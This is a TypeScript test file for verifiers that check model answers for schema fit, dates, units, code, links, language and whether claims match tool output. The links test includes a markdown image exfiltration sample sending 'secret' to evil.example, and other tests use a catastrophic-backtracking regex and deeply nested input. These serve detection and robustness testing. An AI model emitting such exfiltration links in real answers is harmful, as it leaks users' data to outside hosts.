import { afterAll, describe, expect, it } from 'vitest'
import { documentPart } from '../models/local/reader.fixture.ts'
import { noMeaning, searchOver, verifiersOf } from './verifiers.fixture.ts'

const verifiers = verifiersOf({
  order: {
    use: 'json_schema',
    schema: {
      type: 'object',
      properties: { id: { type: 'integer' }, mail: { type: 'string', format: 'email' } },
      required: ['id'],
      additionalProperties: false,
    },
  },
  broken: { use: 'json_schema', schema: { type: 'nothing' } },
  endless: { use: 'json_schema', schema: { $ref: '#' } },
  lists: { use: 'json_schema', schema: { type: 'array', items: { $ref: '#' } } },
  shout: { use: 'regex', pattern: '^[A-Z ]+$' },
  secret: { use: 'regex', pattern: 'secret \\w+', flags: 'i', must_match: false },
  slow: { use: 'regex', pattern: '^(a+)+$' },
  only_json: { use: 'code', languages: ['json'] },
  brief: { use: 'length', min_words: 2, max_words: 4 },
  german: { use: 'language', languages: ['de'] },
})
afterAll(() => verifiers.close())
const check = verifiers.check

describe('json_schema', () => {
  it.each([
    ['{"id":1,"mail":"a@b.example"}'],
    ['```json\n{"id":1}\n```'],
    [' {"id": 1}\n'],
    ['~~~\n{"id":1}\n~~~'],
  ])('passes %s', async (answer) => {
    expect(await check('order', { answer })).toMatchObject({ status: 'passed', score: 1 })
  })

  it.each([
    ['{"id":"1"}', 'The answer does not fit the schema: /id must be integer.'],
    ['{"id":1,"mail":"a"}', 'The answer does not fit the schema: /mail must match format "email".'],
    ['{"id":1,"x":2}', 'The answer does not fit the schema: it must NOT have additional properties (x).'],
    ['Here it is: {"id":1}', 'The answer is not JSON.'],
    ['```json\n{"id":1}\n```\nDone.', 'The answer is not JSON.'],
    ['```json\n{"id":1}', 'The answer is not JSON.'],
  ])('fails %s', async (answer, reason) => {
    expect(await check('order', { answer })).toEqual({ status: 'failed', score: 0, reason })
  })

  it('says when the schema is none, at once and for every answer', async () => {
    expect(await verifiers.problems()).toEqual([
      expect.stringContaining('verifiers.broken.schema is no JSON Schema: '),
      'verifiers.endless.schema is no JSON Schema: it refers to itself without end',
    ])
    await expect(check('broken', { answer: '{}' })).rejects.toMatchObject({ code: 'verifier_not_run' })
  })

  it('does not run on an answer that is nested too deeply, and goes on with the next', async () => {
    const deep = '['.repeat(90_000) + ']'.repeat(90_000)
    const refused = { code: 'verifier_not_run', details: { reason: expect.stringContaining('too deeply') } }
    for (let i = 0; i < 2; i++) await expect(check('lists', { answer: deep })).rejects.toMatchObject(refused)
    expect(await check('lists', { answer: '[[]]' })).toMatchObject({ status: 'passed' })
  })
})

describe('regex', () => {
  it('passes what matches, and fails the rest', async () => {
    expect(await check('shout', { answer: 'YES SIR' })).toMatchObject({ status: 'passed', score: 1 })
    expect(await check('shout', { answer: 'yes' })).toMatchObject({ status: 'failed', score: 0 })
  })

  it('shows what must not be there', async () => {
    const answer = 'The Secret word.'
    const { status, claims } = await check('secret', { answer })
    expect(status).toBe('failed')
    expect(claims).toEqual([
      expect.objectContaining({ text: 'Secret word', start: 4, end: 15, supported: false }),
    ])
    expect(await check('secret', { answer: 'Nothing.' })).toMatchObject({ status: 'passed' })
  })

  it('is not run to the end on an answer made to take for ever', async () => {
    await expect(check('slow', { answer: `${'a'.repeat(60)}!` })).rejects.toMatchObject({
      code: 'verifier_not_run',
      details: { reason: 'matching the pattern took longer than a second' },
    })
    expect(await check('slow', { answer: 'aaa' })).toMatchObject({ status: 'passed' })
  })
})

describe('dates', () => {
  const quotes = ['Issued 5 March 2024, due in 30 days']
  it('pass in any notation', async () => {
    const answer = 'It was issued on 2024-03-05 (Mar 5th, 2024; 05.03.2024; in March 2024).'
    expect(await check('dates', { answer, quotes })).toMatchObject({ status: 'passed', score: 1 })
  })

  it('fail when the source has another, or the calendar none', async () => {
    const { status, score, claims } = await check('dates', {
      answer: 'Issued 6 March 2024, due 31 February 2025.',
      quotes,
    })
    expect([status, score]).toEqual(['failed', 0])
    expect(claims?.map(({ text, reason }) => [text, reason])).toEqual([
      ['6 March 2024', 'it stands in no source'],
      ['31 February 2025', 'the calendar has no such day'],
    ])
  })
})

describe('units', () => {
  const quotes = ['Weight 2.5 kg, length 120 cm, price 40 EUR, deposit £15, VAT 19%, 7 pieces']
  it.each([
    ['It weighs 2500 g, costs €40 and is 1.2 m long.'],
    ['The deposit is 15 pounds; VAT is 19 percent.'],
    ['There are 7 kg.'],
  ])('pass: %s', async (answer) => {
    expect(await check('units', { answer, quotes })).toMatchObject({ status: 'passed', score: 1 })
  })

  it.each([
    ['It costs $40.', '$40', 'in the source that number is in EUR, not in dollar'],
    ['It weighs 2.5 lb.', '2.5 lb', 'in the source that number is in kg, not in lb'],
    ['The deposit is 15 USD.', '15 USD', 'in the source that number is in GBP, not in USD'],
    ['VAT is 19 EUR.', '19 EUR', 'in the source that number is in percent, not in EUR'],
  ])('fail: %s', async (answer, text, reason) => {
    const { status, claims } = await check('units', { answer, quotes })
    expect(status).toBe('failed')
    expect(claims).toEqual([expect.objectContaining({ text, reason, supported: false })])
  })

  it('leave numbers that no source has to others', async () => {
    expect(await check('units', { answer: 'It costs $41.', quotes })).toMatchObject({
      status: 'passed',
      score: null,
    })
  })
})

describe('code', () => {
  it.each([
    ['```json\n{"a": 1}\n```'],
    ['```ts\nconst a: number = 1\nexport default a\n```\nand\n```js\nawait (<div/>)\n```'],
    ['```tsx\nconst a = <T,>(x: T) => <b>{x}</b>\n```'],
  ])('passes %s', async (answer) => {
    expect(await check('code', { answer })).toMatchObject({ status: 'passed', score: 1 })
  })

  it.each([
    ['Look:\n```json\n{"a": 1,}\n```', '{"a": 1,}'],
    ['```js\nlet a = 1\nlet a = = 2\n```', 'let a = = 2'],
    ['```js\nconst a: number = 1\n```', 'const a: number = 1'],
    ['```ts\nfunction a() {', 'function a() {'],
  ])('fails %s at the line', async (answer, line) => {
    const { status, claims = [] } = await check('code', { answer })
    expect(status).toBe('failed')
    expect(claims.map(({ text, start, end }) => [text, answer.slice(start, end)])).toEqual([[line, line]])
  })

  it('looks at the languages it is told to, and at no others', async () => {
    expect(await check('only_json', { answer: '```js\n{{{\n```' })).toMatchObject({
      status: 'passed',
      score: null,
    })
    expect(await check('code', { answer: '```sh\n{{{\n```' })).toMatchObject({
      status: 'passed',
      score: null,
    })
  })
})

describe('links', () => {
  it('pass when the input, a quote or a tool has them', async () => {
    const finding = await check('links', {
      answer: 'See [a](https://A.example/x/#top), http://b.example/y?q=1. And www.c.example!',
      question: 'Is https://a.example/x right?',
      quotes: ['http://b.example/y?q=1'],
      tools: [{ arguments: '{"url":"https://www.c.example/"}', text: 'page' }],
    })
    expect(finding).toMatchObject({ status: 'passed', score: 1 })
  })

  it('fail when they are made up, or carry something away', async () => {
    const answer = '![x](https://evil.example/p.png?d=secret) and https://a.example/other'
    const { claims, score } = await check('links', { answer, question: 'See https://a.example/x' })
    expect(score).toBe(0)
    expect(claims?.map(({ text }) => text)).toEqual([
      'https://evil.example/p.png?d=secret',
      'https://a.example/other',
    ])
  })
})

describe('length', () => {
  it.each([
    ['One.', 'failed'],
    ['one two three', 'passed'],
    ['请问总金额', 'passed'],
    ['one two three four five', 'failed'],
  ])('counts the words of %s', async (answer, status) => {
    expect(await check('brief', { answer })).toMatchObject({ status })
  })
})

describe('language', () => {
  const english = 'The invoice was issued in March and has to be paid within thirty days.'
  const german = 'Die Rechnung wurde im März gestellt und ist innerhalb von dreißig Tagen zu bezahlen.'
  it('is that of the question, when none is named', async () => {
    const question = 'Wann wurde die Rechnung gestellt und bis wann ist sie zu bezahlen?'
    expect(await check('language', { answer: german, question })).toMatchObject({ status: 'passed' })
    expect(await check('language', { answer: english, question })).toMatchObject({
      status: 'failed',
      reason: 'The answer is in English, not in German.',
    })
    expect(await check('language', { answer: '発行日は三月五日です。', question })).toMatchObject({
      status: 'failed',
    })
  })

  it('is one of those named', async () => {
    expect(await check('german', { answer: german })).toMatchObject({ status: 'passed', score: 1 })
    expect(await check('german', { answer: english })).toMatchObject({ status: 'failed' })
  })

  it('cannot be told from a word or a number', async () => {
    expect(await check('german', { answer: '1,234.50 EUR' })).toMatchObject({ status: 'passed', score: null })
  })
})

describe('citation_score', () => {
  it('is that of the best quote', async () => {
    expect(await check('citation_score', { answer: 'a', quotes: ['a', 'b'] })).toMatchObject({
      status: 'passed',
      score: 0.7,
    })
  })

  it('does not run on an answer that quotes nothing', async () => {
    await expect(check('citation_score', { answer: 'a' })).rejects.toMatchObject({ code: 'verifier_not_run' })
  })

  it('fails where the model gave no answer', async () => {
    const answer = { text: 'Not found.', abstained: true }
    expect(await check('citation_score', { answer })).toMatchObject({ status: 'failed', score: null })
  })
})

describe('tool_output', () => {
  const tools = [{ text: '{"order":"A-17","total":144.00,"shipped":"2024-03-05","to":"Maria Jensen"}' }]
  it('passes what tools returned', async () => {
    const answer = 'Order A-17 over $144 was shipped on 5 March 2024 to "Maria Jensen".'
    expect(await check('tool_output', { answer, tools })).toMatchObject({ status: 'passed', score: 1 })
  })

  it('fails what they did not', async () => {
    const answer = 'Order A-18 over $145 was shipped on 6 March 2024 to "Mario Jensen".'
    const { claims, status } = await check('tool_output', { answer, tools })
    expect(status).toBe('failed')
    expect(claims?.map(({ text, supported }) => [text, supported])).toEqual([
      ['A-18', false],
      ['145', false],
      ['6 March 2024', false],
      ['Mario Jensen', false],
    ])
  })

  it('fails an answer that says it worked when the tool failed', async () => {
    const failed = [{ name: 'send_mail', ok: false, text: 'timeout' }]
    const answer = 'All good. Your mail has been sent.'
    expect(await check('tool_output', { answer, tools: failed })).toMatchObject({
      status: 'failed',
      score: 0,
      claims: [{ text: 'Your mail has been sent.', supported: false }],
    })
    const honest = 'The mail could not be sent.'
    expect(await check('tool_output', { answer: honest, tools: failed })).toMatchObject({ status: 'passed' })
    const retried = [...failed, { name: 'send_mail', ok: true, text: 'sent' }]
    expect(await check('tool_output', { answer, tools: retried })).toMatchObject({ status: 'passed' })
  })
})

describe('verifiers', () => {
  it('look into documents that nothing quotes', async () => {
    const page = 'Order A-17 was shipped on 5 March 2024.\n\nTrack it at https://track.example/A-17'
    const opened = verifiersOf({}, { passages: searchOver(noMeaning, page) })
    const asked = {
      parts: [documentPart(0, 1)],
      question: 'When was order A-17 shipped, and where can it be tracked?',
    }
    const answer = 'On 2024-03-05; track it at https://track.example/A-17.'
    expect(await opened.check('dates', { ...asked, answer })).toMatchObject({ status: 'passed', score: 1 })
    expect(await opened.check('links', { ...asked, answer })).toMatchObject({ status: 'passed', score: 1 })
    const wrong = 'On 2024-03-06; track it at https://track.example/A-18.'
    expect(await opened.check('dates', { ...asked, answer: wrong })).toMatchObject({ status: 'failed' })
    expect(await opened.check('links', { ...asked, answer: wrong })).toMatchObject({ status: 'failed' })
    await opened.close()
  })

  it('do not look at answers that are too long', async () => {
    const answer = 'a'.repeat(200_001)
    await expect(check('numbers', { answer })).rejects.toMatchObject({ code: 'verifier_not_run' })
  })

  it('have fingerprints that change with their settings, their members’ included', async () => {
    const fingerprints = (pass: number) => {
      const opened = verifiersOf({
        judge: { use: 'judge', model: 'm', pass_at: pass },
        both: { use: 'all', of: ['judge', 'links'] },
      })
      void opened.close()
      return ['judge', 'both', 'links'].map((name) => opened.get(name)?.fingerprint)
    }
    const [judge, both, links] = fingerprints(0.5)
    expect(fingerprints(0.5)).toEqual([judge, both, links])
    const [otherJudge, otherBoth, sameLinks] = fingerprints(0.6)
    expect(judge).toMatch(/^judge@1:[0-9a-f]{16}$/)
    expect([otherJudge === judge, otherBoth === both, sameLinks === links]).toEqual([false, false, true])
  })
})
